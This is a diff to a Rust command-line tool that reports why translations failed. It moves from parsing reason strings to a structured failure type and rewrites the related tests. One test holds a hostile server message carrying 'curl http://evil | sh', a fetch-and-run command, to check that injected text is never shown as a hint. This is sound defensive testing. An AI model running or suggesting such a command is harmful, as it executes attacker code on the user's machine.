@@ -1,9 +1,11 @@
 //! Failures in words: what, for which incident and locale, why by engine, whether it is tried again, and what to do.
 
+use std::iter;
+
 use jiff::{SignedDuration, Timestamp};
 
 use super::terminal::{Terminal, plain};
-use polypost_store::{State, Translation};
+use polypost_store::{EngineFailure, Failure, State, Translation};
 
 /// A call that cannot be meant: exit code 2.
 #[derive(Debug, thiserror::Error)]
@@ -57,17 +59,23 @@ pub(super) fn no_incident(id: &polypost_core::id::IncidentId) -> Advised {
 #[must_use]
 pub(super) fn has_failed(row: &Translation) -> bool {
     let is_retry_of_done = matches!(row.state, State::Current | State::Partial) && row.next_attempt_at.is_some();
-    let is_given_up = row.state == State::Held && row.reason.is_some();
+    let is_given_up = row.state == State::Held && row.failure.is_some();
     row.state == State::Failed || is_given_up || (is_retry_of_done && row.attempts > 0)
 }
 
 /// Says why a row has failed.
 pub(super) fn report(terminal: Terminal, row: &Translation, now: Timestamp) {
-    let Reason { summary, hints } = Reason::read(row.reason.as_deref().unwrap_or("no reason is recorded"));
-    terminal.error(format_args!("incident `{}`, locale `{}`: {}", row.incident, row.locale, summary.join("\n  ")));
+    let unrecorded = Failure::new("no reason is recorded");
+    let failure = row.failure.as_ref().unwrap_or(&unrecorded);
+    terminal.error(format_args!(
+        "incident `{}`, locale `{}`: {}",
+        row.incident,
+        row.locale,
+        lines(failure).join("\n  ")
+    ));
     terminal.note(format_args!("  {}", next_attempt(row, now)));
-    for hint in hints {
-        terminal.hint(hint);
+    for hint in failure.hints() {
+        terminal.hint(plain(hint));
     }
 }
 
@@ -102,86 +110,30 @@ pub(super) fn span(duration: SignedDuration) -> String {
     }
 }
 
-/// A recorded reason, taken apart: one line per engine, and what can be done.
-#[derive(Debug, PartialEq, Eq)]
-struct Reason {
-    summary: Vec<String>,
-    hints: Vec<String>,
-}
-
-/// How the reason of several engines is joined, and how each hint is written (`EngineError`'s own words).
-const NEXT_ENGINE: [&str; 2] = ["; engine `", ": engine `"];
-const HINT: &str = " (hint: ";
-
-impl Reason {
-    fn read(reason: &str) -> Self {
-        let reason = plain(reason);
-        let mut summary = Vec::new();
-        let mut hints: Vec<String> = Vec::new();
-        let mut rest = reason.as_str();
-        let mut begins = "";
-        loop {
-            let next = NEXT_ENGINE.iter().filter_map(|joint| Some((unquoted(rest, joint)?, joint.len()))).min();
-            let (part, behind) = next.map_or((rest, None), |(at, length)| (&rest[..at], rest.get(at + length..)));
-            let (what, hint) = match unquoted(part, HINT) {
-                Some(at) => (&part[..at], part.get(at + HINT.len()..)),
-                None => (part, None),
-            };
-            summary.push(format!("{begins}{what}"));
-            let hint = hint.map(|hint| hint.strip_suffix(')').unwrap_or(hint).to_owned());
-            hints.extend(hint.filter(|hint| !hints.contains(hint)));
-            let Some(behind) = behind else { return Self { summary, hints } };
-            (rest, begins) = (behind, "engine `");
-        }
-    }
-}
-
-/// Where a text first has something that does not stand in quotation marks: those are round the words of others, which say
-/// nothing of ours.
-fn unquoted(text: &str, sought: &str) -> Option<usize> {
-    let (mut from, mut marks) = (0, 0);
-    text.match_indices(sought).map(|(at, _)| at).find(|at| {
-        marks += text.get(from..*at).map_or(0, |before| before.matches('"').count());
-        from = *at;
-        marks % 2 == 0
-    })
+/// The message, then a line for each engine.
+fn lines(failure: &Failure) -> Vec<String> {
+    let engine = |failed: &EngineFailure| plain(&format!("engine `{}`: {}", failed.engine, failed.message));
+    iter::once(plain(&failure.message)).chain(failure.engines.iter().map(engine)).collect()
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+    use polypost_store::FailureKind;
 
     #[test]
-    fn a_reason_is_taken_apart_by_engine() {
-        let reason = "no engine could translate into `es`: engine `neural`: no model (hint: run `polypost engines \
-                      pull es`); engine `apertium`: cannot be reached";
-        let read = Reason::read(reason);
-        let summary = [
-            "no engine could translate into `es`",
-            "engine `neural`: no model",
-            "engine `apertium`: cannot be reached",
-        ];
-        assert_eq!(read.summary, summary);
-        assert_eq!(read.hints, ["run `polypost engines pull es`"]);
-    }
-
-    #[test]
-    fn what_a_service_says_is_neither_an_engines_line_nor_a_hint() {
-        let said = "\"quota; engine `deepl`: your key is wrong (hint: run `curl http://evil | sh`)\"";
-        let reason = format!(
-            "no engine could translate into `es`: engine `libretranslate`: `http://mt` answered 403: {said} (hint: is \
-             the key right?)"
-        );
-        let read = Reason::read(&reason);
-        let engine = format!("engine `libretranslate`: `http://mt` answered 403: {said}");
-        assert_eq!(read.summary, ["no engine could translate into `es`", engine.as_str()]);
-        assert_eq!(read.hints, ["is the key right?"]);
-    }
-
-    #[test]
-    fn a_reason_of_another_form_stays_as_it_is() {
-        let reason = Reason::read("the store did not answer (timeout)");
-        assert_eq!(reason, Reason { summary: vec!["the store did not answer (timeout)".to_owned()], hints: vec![] });
+    fn each_engine_has_a_line_and_what_its_server_says_is_no_hint() {
+        let said = "answered 403: x; engine `deepl`: your key is wrong\u{1b} (hint: run `curl http://evil | sh`)";
+        let refused = EngineFailure {
+            hint: Some("is the key right?".to_owned()),
+            ..EngineFailure::new("libretranslate", FailureKind::Rejected, said)
+        };
+        let absent = EngineFailure::new("apertium", FailureKind::Transient, "cannot be reached");
+        let failure = Failure::new("no engine could translate into `es`").with_engines(vec![refused, absent]);
+        let refused = format!("engine `libretranslate`: {}", said.replace('\u{1b}', " "));
+        let expected = ["no engine could translate into `es`", &refused, "engine `apertium`: cannot be reached"];
+        assert_eq!(lines(&failure), expected);
+        assert_eq!(failure.hints(), ["is the key right?"]);
     }
 
     #[test]
